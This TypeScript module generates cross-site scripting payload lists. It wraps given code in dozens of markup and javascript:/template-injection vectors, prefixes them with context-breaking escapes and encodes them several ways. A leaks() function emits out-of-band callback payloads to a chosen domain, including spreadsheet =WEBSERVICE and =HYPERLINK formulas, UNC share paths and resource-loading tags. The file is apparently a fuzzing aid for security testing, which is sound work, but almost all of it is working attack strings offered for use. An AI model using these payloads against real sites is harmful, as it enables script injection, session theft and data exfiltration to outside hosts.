/**
 * Texts that would run a script, or reach another host, wherever text is taken for markup, for a link or for a
 * template. Made from parts, the same list each time.
 */

/** Ways to run `code` as markup; each with an event, so that it needs no second step where it can. */
const MARKUP: readonly ((code: string) => string)[] = [
	(code) => `<script>${code}</script>`,
	(code) => `<img src=x onerror=${code}>`,
	(code) => `<svg onload=${code}>`,
	(code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
	(code) => `<svg><set onbegin=${code}>`,
	(code) => `<body onload=${code}>`,
	(code) => `<details open ontoggle=${code}>x`,
	(code) => `<input autofocus onfocus=${code}>`,
	(code) => `<select autofocus onfocus=${code}>`,
	(code) => `<p tabindex=1 autofocus onfocus=${code}>x`,
	(code) => `<b onmouseover=${code}>x</b>`,
	(code) => `<b onclick=${code}>x</b>`,
	(code) => `<b onpointerenter=${code}>x</b>`,
	(code) => `<video><source onerror=${code}></video>`,
	(code) => `<audio src=x onerror=${code}>`,
	(code) => `<iframe srcdoc='<script>${code}</script>'>`,
	(code) => `<iframe src=javascript:${code}>`,
	(code) => `<object data=javascript:${code}>`,
	(code) => `<embed src=javascript:${code}>`,
	(code) => `<a href=javascript:${code}>x</a>`,
	(code) => `<form action=javascript:${code}><button>x`,
	(code) => `<button formaction=javascript:${code}>x`,
	(code) => `<math><a xlink:href=javascript:${code}>x`,
	(code) => `<link rel=stylesheet href=x onerror=${code}>`,
	(code) => `<style onload=${code}></style>`,
	(code) => `<meta http-equiv=refresh content=0;url=javascript:${code}>`,
	(code) => `<base href=javascript:${code}//>`,
	(code) => `<div style=animation-name:x onanimationstart=${code}>`,
	(code) => `<marquee onstart=${code}>x`,
	(code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`
];

/** Ways to run it without a tag: as a link, a template, a value that is called. */
const BARE: readonly ((code: string) => string)[] = [
	(code) => `javascript:${code}`,
	(code) => `JaVaScRiPt:${code}`,
	(code) => `java\u0000script:${code}`.replace('\u0000', '%00'),
	(code) => `data:text/html,<script>${code}</script>`,
	(code) => `vbscript:${code}`,
	(code) => `{${code}}`,
	(code) => `{{${code}}}`,
	(code) => `{@html '<img src=x onerror=${code}>'}`,
	(code) => `\${${code}}`,
	(code) => `<%=${code}%>`,
	(code) => `';${code};'`,
	(code) => `";${code};"`,
	(code) => `\`;${code};\``,
	(code) => `');${code}//`,
	(code) => `constructor.constructor('${code}')()`
];

/** Ways out of where the text may have been put. */
const OUT_OF = [
	'',
	'">',
	"'>",
	'-->',
	'</title>',
	'</script>',
	'</style>',
	'</textarea>',
	']]>',
	'*/',
	'</option></select>',
	'" onfocus=x autofocus '
];

const percent = (text: string) => text.replace(/[<>"' ]/g, (sign) => `%${sign.charCodeAt(0).toString(16)}`);
const entities = (text: string) => text.replace(/[<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`);
const wide = (text: string) => text.replaceAll('<', '＜').replaceAll('>', '＞');
const escapes = (text: string) => text.replace(/[<>]/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`);
const upper = (text: string) => text.replace(/<[a-z]+/g, (tag) => tag.toUpperCase());
const ENCODED = [percent, entities, wide, escapes, upper] as const;

/** Every way of running `code`, out of every place, and every way once in each encoding. No text twice. */
export function payloads(code: string): readonly string[] {
	const plain = [...MARKUP, ...BARE].map((make) => make(code));
	const broken = OUT_OF.flatMap((out) => MARKUP.map((make) => out + make(code)));
	const encoded = ENCODED.flatMap((encode) => plain.map(encode));
	return [...new Set([...plain, ...broken, ...encoded])];
}

/** Ways to make a page or a spreadsheet reach a host; each at a name of its own below `domain`. */
export function leaks(domain: string): readonly string[] {
	const ways: readonly ((host: string) => string)[] = [
		(host) => `http://${host}/`,
		(host) => `https://${host}/a?b=c`,
		(host) => `//${host}/`,
		(host) => `<img src=http://${host}/i>`,
		(host) => `<img srcset="//${host}/i 2x">`,
		(host) => `"><img src=http://${host}/i>`,
		(host) => `<link rel=preconnect href=http://${host}>`,
		(host) => `<link rel=dns-prefetch href=//${host}>`,
		(host) => `<link rel=prefetch href=http://${host}/p>`,
		(host) => `<link rel=prerender href=http://${host}/p>`,
		(host) => `<link rel=stylesheet href=http://${host}/s>`,
		(host) => `<link rel=icon href=http://${host}/f>`,
		(host) => `<script src=http://${host}/s></script>`,
		(host) => `<script type=speculationrules>{"prerender":[{"urls":["http://${host}/"]}]}</script>`,
		(host) => `<style>@import url(http://${host}/s);</style>`,
		(host) => `<div style="background:url(http://${host}/b)">`,
		(host) => `<iframe src=http://${host}/></iframe>`,
		(host) => `<object data=http://${host}/></object>`,
		(host) => `<video poster=http://${host}/v autoplay src=http://${host}/v></video>`,
		(host) => `<meta http-equiv=refresh content="0;url=http://${host}/">`,
		(host) => `<base href=http://${host}/>`,
		(host) => `<form action=http://${host}/><button autofocus>x</button></form>`,
		(host) => `<a ping=http://${host}/ href=#>x</a>`,
		(host) => `<svg><image href=http://${host}/i /></svg>`,
		(host) => `<svg><use href=http://${host}/u#x /></svg>`,
		(host) => `url(http://${host}/u)`,
		(host) => `=HYPERLINK("http://${host}/","x")`,
		(host) => `=WEBSERVICE("http://${host}/")`,
		(host) => `\\\\${host}\\share`,
		(host) => `stun:${host}:3478`,
		(host) => `ws://${host}/`,
		(host) => `mailto:a@${host}`
	];
	return ways.map((way, k) => way(`h${k}.${domain}`));
}

/** A text as one field of a CSV file. */
export const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;

/** Lists of at most `size` items. */
export const inGroups = <T>(items: readonly T[], size: number): T[][] =>
	Array.from({ length: Math.ceil(items.length / size) }, (_, k) => items.slice(k * size, (k + 1) * size));
